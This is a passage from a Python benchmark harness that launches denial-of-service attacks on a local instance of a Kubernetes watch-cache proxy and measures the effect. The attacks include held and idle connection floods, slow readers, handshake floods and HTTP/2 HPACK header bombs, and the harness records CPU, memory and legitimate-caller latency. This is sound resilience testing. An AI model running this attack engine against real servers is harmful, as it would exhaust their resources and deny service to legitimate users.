                self.lat.append((time.monotonic() - t0) * 1000)
            self.stop_ev.wait(max(0, self.every - (time.monotonic() - t0)))

    def stop(self):
        self.stop_ev.set()
        self.th.join(30)
        lat = sorted(self.lat)
        if not lat:
            return None, "no answer" + "".join(", %d %s" % (n, e) for e, n in sorted(self.fail.items()))
        q = lambda p: lat[min(len(lat) - 1, int(round(p / 100 * (len(lat) - 1))))]  # noqa: E731
        fails = "".join(", %d %s" % (n, e) for e, n in sorted(self.fail.items()))
        return q(99), "%.1f / %.1f (%.0f)%s" % (q(50), q(99), lat[-1], " " + fails.lstrip(", ") if fails else "")

    def close(self):
        if self.conn:
            self.conn.close()


def _kib(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("RssAnon:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def _settle(R, pid, timeout):
    """run.py's settle: until kwc uses under 2 % of a core (what an attack
    left queued is billed to it)."""
    R.settle(pid, timeout)


def ends_text(res):
    ends = res.get("ends", {})
    parts = []
    for how, e in sorted(ends.items(), key=lambda kv: -kv[1]["n"]):
        if how in ("client", "open at the end"):
            continue
        parts.append("%s x%d after %s" % (how, e["n"], human(e["median_bytes"])))
    held = ends.get("open at the end")
    if not parts:
        if "client" in ends:
            return "n/a (the attacker closes)"
        return "no (open at the end)" if held else "-"
    return "; ".join(parts) + ("; %d open at the end" % held["n"] if held else "")


def human(b):
    for unit, f in (("GB", 1e9), ("MB", 1e6), ("KB", 1e3)):
        if b >= f:
            return "%.1f %s" % (b / f, unit)
    return "%d B" % b


def counts_text(res, seconds):
    c = dict(res.get("counts", {}))
    parts = ["%d conns" % res["conns"]] if res.get("conns", 0) > 1 else []
    for k, v in sorted(c.items(), key=lambda kv: -kv[1]):
        if k.startswith("GOAWAY"):
            continue
        parts.append("%s %d/s" % (k, v / seconds) if v > 50 else "%s %d" % (k, v))
    return ", ".join(parts[:5])


class Bench:
    def __init__(self, args, R):
        self.args, self.R = args, R
        self.sizes = SIZES["small" if args.small else "full"]
        self.d = tempfile.mkdtemp(prefix="kwc-bench-attack-")
        self.setup = R.AuthSetup(self.d, 1)
        self.token = self.setup.tokens[0]
        self.env = R.Env(apisim_args=["--pods", str(PODS), "--nodes", "4", "--policy", self.setup.policy,
                                      "--anonymous-auth", "false", "--hang-token-prefix", HANG], start_kwc=False)
        self.kc = self.setup.kubeconfig(self.env.apisim.port)
        key = self.env.sim("GET", "/apisim/state?resource=pods")["items"][0]["key"].split("/")
        self.pod = "/api/v1/namespaces/%s/pods/%s?resourceVersion=0" % tuple(key)
        self.n = 0

    def kwc(self, transport):
        R = self.R
        self.n += 1
        v = R.Variant(transport, self.args.kwc, transport == "tls")
        k = R.Kwc(self.args, self.env, v, "attack-%d-%s" % (self.n, transport),
                  flags=(("--auth", "delegated"), ("--max-header-bytes", MAX_HEADER_BYTES)), kubeconfig=self.kc,
                  # the per-source review share and its rejected-review budget
                  # at kwc's default (run.py turns the per-source limits off for
                  # the other scenarios, whose load is one address)
                  optional=(("--max-reviews-per-source", 16),),
                  base=("--resources", "v1/pods", "--log-level", "warn"), ready_timeout=60)
        k.ca = R.certs(self.args)["ca"] if v.tls else None
        # the legitimate caller's token reviewed and cached, and its pod in the cache
        wait = Legit(k.port, k.ca, self.token, self.pod)
        end = time.monotonic() + 30
        while wait.once() and time.monotonic() < end:
            time.sleep(0.1)
        wait.close()
        return k

    def attacker(self, k, path, proto, transport, seconds):
        argv = [PYTHON, os.path.abspath(__file__), "--attacker", path, "--port", str(k.port), "--seconds",
                str(seconds), "--proto", "h2" if proto == "h2" else "h1", "--max-header-bytes",
                str(MAX_HEADER_BYTES), "--token", self.token, "--hang-prefix", HANG,
                "--held-conns", str(self.sizes["held"]), "--idle-conns", str(self.sizes["idle"])]
        if transport == "tls":
            argv.append("--tls")
        return subprocess.Popen(argv, stdout=subprocess.PIPE, text=True)

    def measure(self, k, path, proto, transport, idle_rate):
        """One row's numbers (a dict)."""
        R, secs = self.R, self.args.duration
        pid = k.pid
        _settle(R, pid, 20)
        rss0, c0, t0 = _kib(pid), R.cpu_seconds(pid), time.monotonic()
        legit = Legit(k.port, k.ca, self.token, self.pod).start()
        smp = R.Sampler(pid)
        res = {"bytes": 0, "conns": 0, "ends": {}, "counts": {}}
        if path:
            p = self.attacker(k, path, proto, transport, secs)
            try:
                for line in p.stdout:
                    d = json.loads(line)
                    if "held" in d:
                        res["held"] = d["held"]
                    else:
                        res = dict(d, held=res.get("held"))
                p.wait(timeout=secs + 120)
            finally:
                if p.poll() is None:
                    p.kill()
                    p.wait()
        else:
            time.sleep(secs)
        window = time.monotonic() - t0
        p99, lat = legit.stop()
        legit.close()
        peak = smp.stop()["RssAnon"]
        alive = k.proc.p.poll() is None
        if alive:
            _settle(R, pid, 60 if "bomb" in (path or "") else 20)
        c1 = R.cpu_seconds(pid) if alive else float("nan")
        rss1 = _kib(pid) if alive else 0
        cpu = max(0.0, c1 - c0 - idle_rate * window)
        return {"path": path or "none (legit caller alone)", "proto": proto, "transport": transport,
                "bytes": res["bytes"], "cpu": cpu, "raw_cpu": c1 - c0, "window": window, "res": res,
                "p99": p99, "lat": lat, "peak": peak - rss0, "kept": rss1 - rss0, "alive": alive,
                "held": res.get("held")}

    def run(self):
        rows = []
        idle = {}
        for transport in ("plain", "tls"):
            k = self.kwc(transport)
            try:
                quiet = self.measure(k, None, "-", transport, 0.0)
                idle[transport] = quiet["raw_cpu"] / quiet["window"]
                quiet["cpu"] = quiet["raw_cpu"]
                rows.append(quiet)
                print(row_text(rows[-1], rows), flush=True)
                for path, proto, transports, fresh in ROWS:
                    if transport not in transports or fresh:
                        continue
                    if k.proc.p.poll() is not None:
                        k.stop()
                        k = self.kwc(transport)
                    rows.append(self.measure(k, path, proto, transport, idle[transport]))
                    print(row_text(rows[-1], rows), flush=True)
            finally:
                k.stop()
            # the memory paths: a kwc each (--small: one for all but h1-pipeline, whose
            # buffers stay in the heap, and which runs last)
            mem = [r for r in ROWS if transport in r[2] and r[3]]
            mem.sort(key=lambda r: r[0] == "h1-pipeline")
            k = None
            try:
                for path, proto, transports, fresh in mem:
                    if k and (not self.args.small or path == "h1-pipeline" or k.proc.p.poll() is not None):
                        k.stop()
                        k = None
                    k = k or self.kwc(transport)
                    rows.append(self.measure(k, path, proto, transport, idle[transport]))
                    print(row_text(rows[-1], rows), flush=True)
            finally:
                if k:
                    k.stop()
        return rows

    def close(self):
        self.env.close()
        subprocess.run(["rm", "-rf", self.d])


def ref_of(rows, transport):
    for r in rows:
        if r["path"] == REF and r["transport"] == transport and r["bytes"]:
            return r["cpu"] * 1e9 / r["bytes"]
    return None


def row_text(r, rows):
    """The row's cells."""
    secs = max(r["window"], 1e-9)
    # a slow reader's or an idle connection's cost is per connection, not per byte it sends
    per_conn = r["path"] in PER_CONN or (r["path"] == "handshake" and not r["bytes"])
    nsb = r["cpu"] * 1e9 / r["bytes"] if r["bytes"] and not per_conn else None
    ref = ref_of(rows, r["transport"])
    x = ("%.1f" if nsb and ref and nsb / ref >= 1 else "%.2f") % (nsb / ref) if nsb is not None and ref else "-"
    res = r["res"]
    held = r.get("held")
    rss = "%+.1f MiB (kept %+.1f)" % (r["peak"] / 1024, r["kept"] / 1024)
    if held:
        rss += ", %+.0f KiB/conn x%d" % (r["peak"] / held, held)
    notes = counts_text(res, secs) if r["path"] != "none (legit caller alone)" else \
        "kwc idle + this caller: %.1f%% of a core" % (100 * r["raw_cpu"] / secs)
    if held:
        notes = "%.0f us kwc CPU per conn; " % (r["cpu"] * 1e6 / held) + notes
    if r["path"] == "handshake" and res.get("conns"):
        notes = "%d conns/s, %.0f us kwc CPU per conn" % (res["conns"] / secs, r["cpu"] * 1e6 / res["conns"])
    if res.get("connect_failed"):
        notes += "; %d connects failed" % res["connect_failed"]
    if not r["alive"]:
        notes = "kwc DIED; " + notes
    return [r["path"] + (" (held)" if held else ""), r["proto"], r["transport"], "%.2f" % (r["bytes"] / 1e6),
            "%.2f" % r["cpu"], "%.1f" % nsb if nsb is not None else "-", x,
            ends_text(res) if r["path"] != "none (legit caller alone)" else "-", r["lat"], rss, notes]


PER_CONN = ("h1-slow-list", "h2-slow-list", "idle")


def verdicts(rows):
    """The issue's targets, path by path: lines for the results file."""
    over, slow, unended = [], [], []
    for r in rows:
        c = row_text(r, rows)
        name = "%s %s %s" % (c[0], c[1], c[2])
        try:
            if float(c[6]) > 10:
                over.append("%s (%sx)" % (name, c[6]))
        except ValueError:
            pass
        if r["p99"] is None or r["p99"] >= 50:
            slow.append("%s (%s)" % (name, c[8]))
        if c[7].startswith("no") and r["path"] not in PER_CONN + (REF, "h2-data") and "held" not in c[0]:
            unended.append(name)
    return ["- above 10x baseline: " + ("; ".join(over) or "none"),
            "- legitimate p99 at or above 50 ms (or no answer): " + ("; ".join(slow) or "none"),
            "- flat-out paths kwc never ended (open at the end of the run): " + ("; ".join(unended) or "none")]


HEADER = ["path", "proto", "transport", "attacker MB", "kwc CPU s", "ns/byte", "x baseline", "kwc ends it?",
          "legit p50 / p99 (max) ms", "RSS delta", "notes"]


def bench_attack(args, R):
    """The scenario: see METHOD."""
    r = subprocess.run([PYTHON, os.path.abspath(__file__), "--self-test"], capture_output=True, text=True)
    if r.returncode != 0:
        raise RuntimeError("attack.py --self-test: %s" % (r.stdout + r.stderr))
    b = Bench(args, R)
    t0 = time.monotonic()
    try:
        rows = b.run()
    finally:
        b.close()
    cells = [row_text(r, rows) for r in rows]
    ver = subprocess.run([args.kwc, "--version"], capture_output=True, text=True).stdout.strip()
    try:
        commit = R.git("rev-parse", "--short", "HEAD") + (" (dirty)" if R.git("status", "--porcelain", "--",
                                                                               "proxy", "cache", "include") else "")
    except Exception:  # noqa: BLE001 (not a git checkout)
        commit = "?"
    cpu = "?"
    with open("/proc/cpuinfo") as f:
        for line in f:
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    try:
        load = open("/proc/loadavg").read().split()[:3]
    except OSError:
        load = ["?"]
    title = "%s: %s (%s, tree %s), %d x %s, load %s before, %s, %d s per path, %s" % (
        args.attack_label, R.shown_kwc(args.kwc), ver, commit, os.cpu_count() or 0, cpu, " ".join(load),
        datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d %H:%M UTC"), args.duration,
        "small" if args.small else "full")
    text = R.table(title, HEADER, cells)
    text += "\n" + "\n".join(verdicts(rows)) + "\n"
    text += "\nScenario time %.0f s. Held paths: %d connections (idle: %d), RSS per connection = peak delta / " \
        "connections.\n" % (time.monotonic() - t0, b.sizes["held"], b.sizes["idle"])
    print(text, flush=True)
    if not R.SAVE and not args.attack_save:
        print("(not saved to bench/results/attack.md: %s; --attack-save saves it)\n" % R.NOTE)
        return
    os.makedirs(R.RESULTS, exist_ok=True)
    out = os.path.join(R.RESULTS, "attack.md")
    fresh = not os.path.exists(out)
    with open(out, "a") as f:
        if fresh:
            f.write(METHOD + "\n")
        f.write(text + "\n")
    print("saved to %s" % out, flush=True)

# ---- the engine ----

def tls_context(a, proto):
    if not a.tls:
        return None
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the server's cost is the same; the attacker's is lower
    ctx.set_alpn_protocols(["h2"] if proto == "h2" else ["http/1.1"])
    return ctx


def run_attacker(a):
    atk = PATHS[a.attacker](a)
    ctx = tls_context(a, atk.proto)
    end = time.monotonic() + a.seconds
    live, done = [], []          # [Wire], [(bytes, how)]
    sent_closed = 0
    opened = fails = 0
    rcvbuf = 4096 if not atk.read else None
    target = atk.conns or 1
    announced = False

    def finish(w, how):
        nonlocal sent_closed
        w.close()
        live.remove(w)
        sent_closed += w.sent
        done.append((w.sent, how))

    while time.monotonic() < end:
        # connect up to the target (the memory paths open theirs once and hold them)
        while len(live) < target and opened < MAX_CONNS and time.monotonic() < end:
            if atk.hold and opened >= target:
                break
            try:
                w = Wire(a.port, ctx, rcvbuf=rcvbuf, timeout=min(10.0, max(0.5, end - time.monotonic())))
            except (OSError, Closed, TimeoutError, ssl.SSLError) as e:
                fails += 1
                atk.count("connect failed: " + type(e).__name__)
                time.sleep(0.01)
                continue
            opened += 1
            w.done, w.ended = False, None
            atk.start(w)
            live.append(w)
        if atk.hold and not announced and len(live) >= target:
            announced = True
            print(json.dumps({"held": len(live)}), flush=True)
        for w in list(live):
            if w.done and not w.pending():
                finish(w, w.ended or "client")
                continue
            while not w.done and w.pending() < AHEAD:
                d = atk.more(w)
                if d is None:
                    break
                w.queue(d)
        if not live:
            continue
        rl = [w for w in live if atk.read]
        wl = [w for w in live if w.pending()]
        try:
            r, wr, _ = select.select(rl, wl, [], max(0.0, min(0.05, end - time.monotonic())))
        except ValueError:
            r, wr = [], []
        for w in set(r) | set(wr):
            if w not in live:
                continue
            try:
                if w in r:
                    d = w.read()
                    if d:
                        atk.on_data(w, d)
                w.flush()
            except Closed as e:
                if atk.read and not w.ended:
                    last_words(atk, w)  # a GOAWAY kwc sent before it closed, if the socket still has it
                finish(w, w.ended or "closed (%s)" % e)
        # a held connection kwc closed is reported as such (not reopened)
    at_end = len(live)
    for w in list(live):
        sent_closed += w.sent
        done.append((w.sent, w.ended or "open at the end"))
        w.close()
    live.clear()
    return {"path": a.attacker, "bytes": sent_closed, "conns": opened, "connect_failed": fails,
            "open_at_end": at_end, "ends": summarize(done), "counts": atk.counts}


def last_words(atk, w):
    """What the socket still holds after a failed write (kwc's GOAWAY)."""
    for _ in range(8):
        try:
            d = w.read()
        except Closed:
            return
        if not d:
            return
        atk.on_data(w, d)


def summarize(done):
    by = {}
    for b, how in done:
        by.setdefault(how, []).append(b)
    return {how: {"n": len(bs), "median_bytes": sorted(bs)[len(bs) // 2], "max_bytes": max(bs)}
            for how, bs in by.items()}


def self_test():
    """The hand-made HPACK blocks decode as intended (the hpack package)."""
    import hpack

    class A:
        port, tls, max_header_bytes, bomb_frames = 1234, False, 1 << 20, 4
    dec = hpack.Decoder()
    dec.max_header_list_size = 1 << 30
    h = H2HpackWithin(A())

    class W:
        opened = 0
    b = h.stream(W, 1)
    # frames -> block
    blk, i = b"", 0
    while i < len(b):
        n = int.from_bytes(b[i:i + 3], "big")
        blk += b[i + 9:i + 9 + n]
        i += 9 + n
    fields = dec.decode(blk, raw=True)
    size = sum(field_size(k, v) for k, v in fields)
    assert fields[0] == (b":method", b"GET") and fields[-1] == (b"x", BOMB_VALUE), fields[:5]
    assert A.max_header_bytes - 4100 < size <= A.max_header_bytes, size
    blk2 = req_block(b"h:1", b"/p", token=b"tok", tls=True)
    assert dec.decode(blk2, raw=True)[-1] == (b"authorization", b"Bearer tok")
    assert hint(4000, 7) == b"\x7f\xa1\x1e"
    print("self-test ok: within-limit block %d bytes -> %d decoded" % (len(blk), size))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--attacker", choices=sorted(PATHS))
    ap.add_argument("--self-test", action="store_true")
    ap.add_argument("--port", type=int)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--proto", default="h1", choices=("h1", "h2"), help="idle, handshake: the ALPN / preface")
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--max-header-bytes", type=int, default=1 << 20)
    ap.add_argument("--bomb-frames", type=int, default=260)
    ap.add_argument("--token", default="", help="a valid token (the slow-list paths)")
    ap.add_argument("--hang-prefix", default="hang-")
    ap.add_argument("--held-conns", type=int, default=10)
    ap.add_argument("--idle-conns", type=int, default=200)
    a = ap.parse_args()
    if a.self_test:
        self_test()
        return
    if not a.attacker or not a.port:
        ap.error("--attacker and --port")
    print(json.dumps(run_attacker(a)), flush=True)


if __name__ == "__main__":
    main()
